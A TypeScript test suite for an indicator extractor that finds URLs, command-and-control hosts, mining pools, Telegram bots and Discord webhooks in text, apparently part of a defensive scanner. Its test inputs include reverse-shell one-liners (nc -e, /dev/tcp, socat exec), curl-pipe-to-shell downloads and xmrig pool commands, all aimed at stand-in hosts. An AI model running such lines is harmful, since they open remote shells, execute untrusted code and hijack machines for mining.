import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { collectIndicators, collectWithin, defaultIndicatorBounds } from './collect.ts';

const found = (text: string) =>
  collectIndicators([{ text, where: {} }]).map(
    ({ kind, value, port }) => `${kind} ${value}${port === undefined ? '' : ` ${port}`}`,
  );

describe('URLs', () => {
  test.each([
    ['curl http://a.example/x.sh|sh', 'url http://a.example/x.sh'],
    ['curl http:\\\\a.example\\x.sh', 'url http://a.example/x.sh'],
    ['"http:\\\\\\\\a.example\\\\x"', 'url http://a.example/x'],
    ['{"u":"http:\\/\\/a.example\\/x"}', 'url http://a.example/x'],
    ['see http://a.example/x.', 'url http://a.example/x'],
    ['(see http://a.example/x)', 'url http://a.example/x'],
    ['http://a.example/x_(y)', 'url http://a.example/x_(y)'],
    ['HTTPS://A.Example/X', 'url https://a.example/X'],
    ['-Uhttp://a.example', 'url http://a.example/'],
    ['<a href=http://a.example/x>', 'url http://a.example/x'],
    ['http://u:secret@a.example/x', 'url http://a.example/x'],
    ['http://good.example@bad.invalid/x', 'url http://bad.invalid/x'],
    ['http://a.example:8080/x?y=1#z', 'url http://a.example:8080/x?y=1#z'],
    ['http://a.example/$(uname -m)', 'url http://a.example/'],
    ['http://a.example/x\\n', 'url http://a.example/x'],
    ['ftp://a.example/x', 'url ftp://a.example/x'],
    ['tcp://192.0.2.1:2375', 'url tcp://192.0.2.1:2375/'],
    ['http://a.example/?u=http://b.example/y', 'url http://b.example/y'],
    ['http://a.example/x\u3002', 'url http://a.example/x\u3002'],
  ])('%j', (text, expected) => {
    expect(found(text)).toContain(expected);
  });

  test.each([
    'http://',
    'http:///etc/passwd',
    'file:///etc/passwd',
    'unix:///var/run/docker.sock',
    'http://$HOST/x',
    'http://${HOST}:80/x',
    'http://%s/x',
    'http://<host>/x',
    'http://*/x',
    'a://b',
    'docker://a.example/x',
  ])('none: %s', (text) => {
    expect(found(text)).toEqual([]);
  });

  test('a password is never repeated', () => {
    expect(JSON.stringify(collectIndicators([{ text: 'ftp://u:hunter2@a.example/', where: {} }]))).not.toContain(
      'hunter2',
    );
  });
});

describe('places that prove a host', () => {
  test.each([
    ['ssh -i k root@gate.invalid -p 22', 'host gate.invalid'],
    ['scp x deploy@192.0.2.7:/tmp', 'ipv4 192.0.2.7'],
    ['nc -e /bin/sh c2.invalid 4444', 'host c2.invalid 4444'],
    ['ncat 192.0.2.7 4444', 'ipv4 192.0.2.7 4444'],
    ['telnet c2.invalid 23', 'host c2.invalid 23'],
    ['socat exec:sh TCP:c2.invalid:4444', 'host c2.invalid 4444'],
    ['bash -i >& /dev/tcp/c2.invalid/4444', 'host c2.invalid 4444'],
    ['cat </dev/udp/192.0.2.7/53', 'ipv4 192.0.2.7 53'],
    ["s.connect(('c2.invalid',4444))", 'host c2.invalid 4444'],
    ['fsockopen("c2.invalid", 4444)', 'host c2.invalid 4444'],
    ['curl -s c2.invalid/x.sh | sh', 'host c2.invalid'],
    ['wget -qO- c2.invalid:8080/x.sh', 'host c2.invalid 8080'],
    ['upstream c2.invalid:8080', 'host c2.invalid 8080'],
  ])('%s', (text, expected) => {
    expect(found(text)).toContain(expected);
  });

  test.each([
    'run.sh:4',
    'config.py:12',
    'main.rs:10:5',
    'java.lang.String',
    'curl -o install.sh',
    'wget run.sh',
    'ssh host uptime',
    'nc -l -p 4444',
    'nc -w 3 5',
    'nc $HOST 4444',
    'root@localhost:~#',
    'self.connect(name, 5)',
    '/dev/tcp/',
    '/dev/tcp/$H/$P',
    'a.b.c:80',
  ])('none: %s', (text) => {
    expect(found(text)).toEqual([]);
  });
});

describe('pools', () => {
  test.each([
    ['xmrig -o stratum+tcp://pool.invalid:3333 -u x', 'pool pool.invalid 3333'],
    ['xmrig -o pool.invalid:3333', 'pool pool.invalid 3333'],
    ['xmrig --url=pool.invalid:3333', 'pool pool.invalid 3333'],
    ['miner --pool 192.0.2.3:14444', 'pool 192.0.2.3 14444'],
    ['{"pools":[{"url":"pool.invalid:443","user":"x"}]}', 'pool pool.invalid 443'],
    ['"pool_address" : "pool.invalid:3333",', 'pool pool.invalid 3333'],
    ['POOL=pool.invalid:3333', 'pool pool.invalid 3333'],
    ['"{\\"url\\":\\"pool.invalid:443\\"}"', 'pool pool.invalid 443'],
    ['stratum+ssl://[2001:db8::1]:443', 'pool 2001:db8::1 443'],
  ])('%s', (text, expected) => {
    expect(found(text)).toContain(expected);
  });

  test.each([
    'curl -o out.txt',
    'gcc -o a.out main.c',
    'mount -o ro,noexec',
    'url = db:5432',
    'pool = mempool',
    '-o run.sh:4',
  ])('none: %s', (text) => {
    expect(found(text)).toEqual([]);
  });
});

describe('messengers and digests', () => {
  const token = `AA${'b'.repeat(33)}`;
  test.each([
    [
      `https://api.telegram.org/bot123456789:${token}/sendMessage?chat_id=-1001234567`,
      ['bot123456789', 'chat-1001234567'],
    ],
    [`TOKEN = "123456789:${token}"\nchat_id = "987654321"`, ['bot123456789', 'chat987654321']],
    ['join https://t.me/joinchat/abcdef', ['t.me/joinchat/abcdef']],
  ])('%s', (text, values) => {
    const telegram = collectIndicators([{ text, where: {} }]).filter(({ kind }) => kind === 'telegram');
    expect(telegram.map(({ value }) => value)).toEqual(values);
    expect(JSON.stringify(collectIndicators([{ text, where: {} }]))).not.toContain(token);
  });

  test('a webhook is named by its number, its token is not repeated', () => {
    const text = 'https://discord.com/api/webhooks/123456789012345678/s3cr3t-T0ken';
    expect(found(text)).toContain('discord webhook123456789012345678');
    expect(JSON.stringify(collectIndicators([{ text, where: {} }]))).not.toContain('s3cr3t');
  });

  test('sixty-four digits are a digest only where they say so', () => {
    const digits = 'ab'.repeat(32);
    expect(found(`image@sha256:${digits}`)).toEqual([`sha256 ${digits}`]);
    expect(found(`key=${digits} sha256:${digits}0`)).toEqual([]);
  });
});

describe('collecting', () => {
  test('the same thing in several places is one, with its places and lines', () => {
    const indicators = collectIndicators([
      { text: 'x\ncurl http://a.invalid/\n', where: { path: '/a' } },
      { text: 'curl http://a.invalid/', where: { path: '/b', line: 7 } },
      { text: '"http://a.invalid/"', where: { path: '/c' } },
    ]);
    expect(indicators.find(({ kind }) => kind === 'url')?.where).toEqual([
      { path: '/a', line: 2 },
      { path: '/b', line: 7 },
      { path: '/c' },
    ]);
  });

  test('the order does not depend on the order of the texts', () => {
    const texts = ['http://b.invalid:2/', 'http://a.invalid/', '192.0.2.1:9', 'http://b.invalid:10/'].map((text) => ({
      text,
      where: {},
    }));
    expect(collectIndicators(texts)).toEqual(collectIndicators(texts.toReversed()));
  });

  test('at most 20 places of one', () => {
    const texts = Array.from({ length: 50 }, (_, index) => ({
      text: 'http://a.invalid/',
      where: { path: `/${index}` },
    }));
    expect(collectIndicators(texts).map(({ where }) => where.length)).toEqual([20, 20]);
  });

  test.each([
    ['characters', { characters: 10 }],
    ['indicators of a kind', { ofKind: 1 }],
    ['indicators', { all: 1 }],
    ['sums', { sums: 0 }],
  ])('a bound on %s is kept and told', (_, bound) => {
    const text = `http://a.invalid/ http://b.invalid/ ${'1'.repeat(30)}`;
    const all = collectWithin([{ text, where: {} }], defaultIndicatorBounds);
    expect(all.truncated).toBe(false);
    const some = collectWithin([{ text, where: {} }], { ...defaultIndicatorBounds, ...bound });
    expect(some.truncated).toBe(true);
    expect(some.indicators.length).toBeLessThanOrEqual(all.indicators.length);
  });

  test('nothing in a text makes it fail, and what it says is well-formed', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(
        'http://',
        'http:\\\\',
        '/dev/tcp/',
        'nc ',
        'ssh a@',
        '192.0.2.',
        '[2001:db8::',
        ']:80',
        ':80',
        '.onion',
        '4'.repeat(95),
        'AAAA',
        '-o ',
        '"url":"',
        'chat_id=',
        'bc1q',
        '0x',
        '%',
        '@',
        '\\n',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        for (const indicator of collectIndicators([{ text: pieces.join(''), where: {} }])) {
          expect(indicator.value).not.toBe('');
          expect(indicator.value).not.toMatch(/[\s\u0000-\u001f\u007f]/);
          if (indicator.port !== undefined) expect(indicator.port).toBeGreaterThan(0);
        }
      }),
      { numRuns: 500 },
    );
  });

  // Each was chosen against one reader; quadratic work on a megabyte would take many minutes, past any test's time.
  test.each([
    'http://',
    'nc ',
    'nc 1 1 ',
    'ssh a@b.c ',
    'curl a.b/',
    '4',
    'AAAA',
    'AAAA/',
    '1.',
    '1.2.3.4:',
    '[::',
    '2001:db8:',
    'a.b:1 ',
    '-o ',
    '"url":',
    'http://a.b/\n',
    '12345678:AA',
    'connect("',
    `${'4'.repeat(95)} `,
  ])('a megabyte of %j is walked once', (unit) => {
    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
    expect(collectIndicators([{ text, where: {} }]).length).toBeLessThan(10);
  });
});
